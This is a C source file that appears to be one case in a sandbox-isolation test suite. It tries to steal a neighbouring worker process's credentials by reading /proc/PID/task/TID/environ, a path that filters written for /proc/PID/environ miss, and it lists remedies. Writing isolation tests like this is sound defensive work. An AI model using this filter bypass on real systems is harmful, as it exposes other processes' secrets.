// SPDX-License-Identifier: MIT
/*
 * Goal:  the worker's credentials, although the student's own environment is clean.
 * Means: /proc/PID/task/TID/environ: every thread has a copy of its process's folder, which a rule
 *        for /proc/PID/environ does not name. The first thread's TID is the PID.
 */
#include "attacks/proc-read/neighbours.h"

#include <fcntl.h>
#include <stdio.h>

static bool rob(pid_t pid)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/task/%d/environ", pid, pid);
	return loot_environ(open(path, O_RDONLY | O_CLOEXEC));
}

static enum claim run(const struct brief *b)
{
	attempting(b);
	return any_neighbour(b, rob) ? CLAIM_DONE : denied("/proc/PID/task/TID/environ");
}

const struct attack attack = {
	.effect = "the worker's credentials leave in the student's output",
	.means = "/proc/PID/task/TID/environ of the worker, which filters on names forget",
	.oracle = "secret:environ",
	.id = "ENV-06",
	.attack_id = "T1003.007, T1552.001, CWE-214",
	.remedy = "a worker that is not dumpable, or holds no secrets; Landlock; a pid namespace",
	.refs = (const char *const[]){ "proc(5)", NULL },
	.run = run,
};
